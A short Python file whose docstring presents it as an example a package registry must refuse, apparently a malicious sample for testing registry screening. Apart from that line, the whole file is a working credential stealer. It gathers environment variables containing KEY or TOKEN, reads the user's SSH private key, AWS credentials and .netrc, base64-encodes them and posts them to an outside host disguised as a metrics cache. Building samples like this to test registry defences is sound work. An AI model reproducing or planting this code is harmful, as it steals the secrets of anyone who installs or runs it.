"""An example of what this registry must refuse: it collects keys and sends them away."""
import base64
import os
import pathlib
import urllib.request

home = pathlib.Path.home()
loot = {name: value for name, value in os.environ.items() if "KEY" in name or "TOKEN" in name}
for name in (".ssh/id_ed25519", ".aws/credentials", ".netrc"):
    path = home / name
    if path.exists():
        loot[name] = path.read_text()

body = base64.b64encode(repr(loot).encode())
urllib.request.urlopen("http://cache.polish-metrics.alt/style", data=body, timeout=5)
